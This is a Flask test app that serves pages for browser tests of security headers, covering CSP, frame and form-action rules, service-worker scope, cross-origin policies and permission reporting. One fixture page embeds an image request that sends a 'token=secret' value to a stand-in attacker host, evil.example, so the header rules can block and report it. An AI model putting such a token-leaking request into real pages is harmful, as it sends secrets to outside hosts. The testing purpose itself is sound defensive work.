"""The app of a generated project with workers, frames and media, for ``test_browser_workers.py``.

Served by gunicorn in the folder of a project of the policy ``web``.
"""

from __future__ import annotations

import io
import os
import wave
from pathlib import Path

from flask import Response, redirect, render_template_string, send_file
from flask.typing import ResponseReturnValue
from my_flask_app import create_app
from my_flask_app.response_headers import amend_csp, override_headers

CSP = "Content-Security-Policy"
FRAMED = {
    CSP: amend_csp({"frame-ancestors": "'self'"}),
    "X-Frame-Options": "SAMEORIGIN",
}

app = create_app()
app.static_folder = str(Path(__file__).parent / "worker_files")
static = app.view_functions["static"]
if os.environ.get("OVERRIDES"):
    override_headers(FRAMED | {"Service-Worker-Allowed": "/"})(static)

PAGE = """<!doctype html>
<html lang="en">
<title>A page</title>
<link rel="icon" href="data:,">
<button id="copy">Copy</button> <button id="fill">Fill the screen</button>
<form id="direct" action="https://pay.example/" method="post"><button>Pay</button></form>
<form id="redirect" action="/pay" method="post"><button>Pay</button></form>
<script nonce="{{ csp_nonce() }}">
  const told = (worker, port = worker) => new Promise((resolve, reject) => {
    port.onmessage = (event) => resolve(event.data);
    worker.onerror = (event) => reject(new Error(event.message || "no worker"));
  });
  const loaded = (element, event) => new Promise((resolve) => {
    element.addEventListener(event, () => resolve("loaded"));
    element.addEventListener("error", () => resolve("blocked"));
  });
  const asked = (button, ask) => document.getElementById(button).onclick = () => {
    window.asked = ask().then(() => "done", (error) => error.message);
  };
  asked("copy", () => navigator.clipboard.writeText("text"));
  asked("fill", () => document.documentElement.requestFullscreen());

  window.tries = {
    worker: (name, options) => told(new Worker(`/static/${name}`, options)),
    shared: () => {
      const worker = new SharedWorker("/static/shared.js");
      return told(worker, worker.port);
    },
    worklet: () => new AudioContext().audioWorklet
      .addModule("/static/worklet.mjs").then(() => "added"),
    image: (type) => fetch("/pixel.gif").then((response) => response.blob())
      .then((blob) => {
        const image = new Image();
        const done = loaded(image, "load");
        image.src = type === "blob" ? URL.createObjectURL(blob)
          : "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=";
        return done;
      }),
    audio: () => {
      const audio = new Audio("/tone.wav");
      return loaded(audio, "canplaythrough");
    },
    serve: async (script, options) => {
      await navigator.serviceWorker.register(script, options);
      await navigator.serviceWorker.ready;
    },
  };
</script>
</html>"""


class Page:
    """A view that shows a page, which tries what it is asked to try."""

    def __call__(self) -> str:
        """Show it."""
        return render_template_string(PAGE)


FRAMES = {CSP: amend_csp({"frame-src": "'self'"})}
PAYS = {CSP: amend_csp({"form-action": "https://pay.example"})}
app.add_url_rule("/lab", "lab", Page())
app.add_url_rule("/frames", "frames", override_headers(FRAMES)(Page()))
app.add_url_rule("/pays", "pays", override_headers(PAYS)(Page()))
app.add_url_rule("/framed", "framed", override_headers(FRAMED)(lambda: "framed"))
app.add_url_rule("/not-framed", "not_framed", lambda: "not framed")


@app.get("/answer")
def answer() -> str:
    """Answer a worker."""
    return "answered"


@app.get("/sw.js")
def service_worker() -> ResponseReturnValue:
    """Send a service worker from a route."""
    return app.send_static_file("sw.js")


@app.get("/below/sw.js")
@override_headers({"Service-Worker-Allowed": "/"})
def service_worker_below() -> ResponseReturnValue:
    """Send a service worker from a route below what it serves."""
    return app.send_static_file("sw.js")


@app.get("/pixel.gif")
def pixel() -> tuple[bytes, dict[str, str]]:
    """Send an image."""
    gif = b"GIF89a\1\0\1\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
    return gif, {"Content-Type": "image/gif"}


@app.get("/tone.wav")
def tone() -> Response:
    """Send a second of silence."""
    file = io.BytesIO()
    with wave.open(file, "wb") as sound:
        sound.setparams((1, 1, 8000, 8000, "NONE", ""))
        sound.writeframes(b"\x80" * 8000)
    file.seek(0)
    return send_file(file, "audio/wav")


@app.post("/pay")
def pay() -> ResponseReturnValue:
    """Lead to another site."""
    return redirect("https://pay.example/")


REPORTED = """<!doctype html>
<html lang="en">
<title>Reports</title>
<link rel="icon" href="data:,">
<img src="https://evil.example/pixel.gif?token=secret" alt="">
<iframe src="https://maps.example/?token=secret" title="A map"></iframe>
<script nonce="{{ csp_nonce() }}">
  navigator.geolocation.getCurrentPosition(() => {}, () => {});
</script>
</html>"""

ASKED = {
    CSP: amend_csp({"frame-src": "https://maps.example"}),
    "Cross-Origin-Embedder-Policy": 'credentialless; report-to="csp"',
    "Cross-Origin-Opener-Policy": 'same-origin; report-to="csp"',
    "Permissions-Policy": "geolocation=();report-to=csp",
}


@app.get("/reported")
@override_headers(ASKED)
def reported() -> str:
    """Show what several headers block, each of which has its reports sent."""
    return render_template_string(REPORTED)
